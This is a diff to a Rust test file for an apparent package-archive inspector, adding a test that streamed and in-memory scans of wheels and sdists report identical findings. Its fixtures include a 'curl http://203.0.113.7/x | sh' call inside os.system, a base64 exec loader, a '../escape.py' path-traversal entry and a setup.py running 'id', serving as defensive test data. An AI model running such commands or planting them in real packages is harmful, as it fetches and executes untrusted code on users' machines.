@@ -3,7 +3,7 @@
 
 use std::io::Write;
 
-use airlock_inspect::{inspect_archive, Limits, Report, Severity};
+use airlock_inspect::{inspect_archive, inspect_source, Limits, Report, Severity};
 
 fn zip_of(entries: &[(&str, &[u8])]) -> Vec<u8> {
     let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
@@ -164,6 +164,44 @@ fn duplicate_names_are_flagged() {
     }
     let report = inspect_archive("demo-1.0-py3-none-any.whl", &bytes, &Limits::default());
     assert!(has(&report, "archive/duplicate-entry", Severity::Medium), "{:?}", rules(&report));
+}
+
+/// Inspect `bytes` as the file `name` on disk, streamed (as `airlock scan`
+/// and the worker do).
+fn inspect_on_disk(name: &str, bytes: &[u8]) -> Report {
+    let path = std::env::temp_dir().join(format!("airlock-stream-{}-{name}", std::process::id()));
+    std::fs::write(&path, bytes).unwrap();
+    let report = inspect_source(name, std::io::BufReader::new(std::fs::File::open(&path).unwrap()), &Limits::default());
+    std::fs::remove_file(&path).unwrap();
+    report
+}
+
+#[test]
+fn streaming_from_a_file_finds_what_reading_from_memory_finds() {
+    let mut dup = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    let options = zip::write::SimpleFileOptions::default();
+    dup.start_file("a.py", options).unwrap();
+    dup.write_all(b"import os\nos.system('curl http://203.0.113.7/x | sh')\n").unwrap();
+    dup.start_file("b.py", options).unwrap();
+    dup.write_all(b"2").unwrap();
+    let mut dup = dup.finish().unwrap().into_inner();
+    let at = dup.windows(4).rposition(|w| w == b"b.py").unwrap();
+    dup[at] = b'a';
+    let wheel = zip_of(&[("demo/__init__.py", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"), ("../escape.py", b"x")]);
+    let sdist = tar_gz_of(&[TarEntry::File("demo-1.0/PKG-INFO", PKG_INFO), TarEntry::File("demo-1.0/setup.py", b"import os\nos.system('id')\n")]);
+    let cases: [(&str, &[u8]); 5] = [
+        ("demo-1.0-py3-none-any.whl", &dup),
+        ("demo-1.0-py3-none-any.whl", &wheel),
+        ("demo-1.0-py3-none-any.whl", &wheel[..wheel.len() - 7]),
+        ("demo-1.0.tar.gz", &sdist),
+        ("demo-1.0.tar.gz", &sdist[..sdist.len() / 2]),
+    ];
+    for (name, bytes) in cases {
+        let in_memory = serde_json::to_value(inspect_archive(name, bytes, &Limits::default())).unwrap();
+        let streamed = serde_json::to_value(inspect_on_disk(name, bytes)).unwrap();
+        assert_eq!(streamed, in_memory, "{name} ({} bytes)", bytes.len());
+        assert!(!in_memory["findings"].as_array().unwrap().is_empty(), "each case has findings to compare");
+    }
 }
 
 #[test]
